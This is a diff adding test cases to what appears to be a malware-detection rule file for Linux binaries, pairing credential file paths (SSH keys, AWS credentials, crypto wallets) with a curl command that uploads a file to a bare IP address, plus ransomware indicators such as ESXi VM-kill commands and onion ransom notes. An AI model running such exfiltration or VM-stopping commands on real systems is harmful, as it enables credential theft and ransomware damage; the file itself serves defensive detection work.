@@ -60,6 +60,25 @@ export const THEFTS: Traits = {
       'a scanner for keys': texts('.aws/credentials', '.kube/config', '.docker/config.json', '.ssh/id_rsa'),
     },
   },
+  elf_uploads_keys_to_bare_address: {
+    hits: {
+      'three places and a number': texts(
+        '/.ssh/id_rsa',
+        '/.aws/credentials',
+        '/.electrum/wallets',
+        'curl -s -F file=@/tmp/x http://91.92.248.33:8080/up',
+      ),
+    },
+    misses: {
+      'a backup to a server with a name': texts(
+        '/.ssh/id_rsa',
+        '/.aws/credentials',
+        '/.electrum/wallets',
+        'curl -s -F file=@/tmp/x https://backup.example.org/up',
+      ),
+      'a key and a number': texts('/.ssh/id_rsa', 'curl -s -F file=@/tmp/x http://91.92.248.33:8080/up'),
+    },
+  },
   elf_steals_account_data: {
     hits: {
       'three folders, hidden and sent': {
@@ -86,6 +105,11 @@ export const THEFTS: Traits = {
         ...texts('All your files are encrypted', 'use tor browser', 'http://a.onion/'),
         imports: ['readdir64', 'rename'],
       },
+      'hours that are left and where to answer, and machines stopped': texts(
+        'answer within 72 hours',
+        'abcdefgh.onion',
+        'vim-cmd vmsvc/getallvms',
+      ),
       'a note, and machines stopped': texts('files were encrypted', 'bitcoin', 'esxcli vm process kill', '.vmdk'),
     },
     misses: {
